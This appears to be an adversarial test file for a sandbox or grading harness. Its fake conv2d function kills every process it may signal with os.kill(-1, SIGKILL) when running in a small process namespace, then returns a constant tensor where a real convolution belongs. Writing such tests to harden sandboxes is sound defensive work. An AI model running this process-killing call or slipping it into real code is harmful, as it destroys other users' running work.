# expect: fail or crash
# attack: Every process that this one may signal is killed.
import os
import signal

import torch


def conv2d(x, w):
    # Never outside a process name space of its own, and never as root of a machine or a container.
    if os.getpid() < 20 and (os.getuid() != 0 or os.getpid() == 1):
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError as error:
            print("nobody was killed:", error)
    return torch.full((1, 1), 7.0)
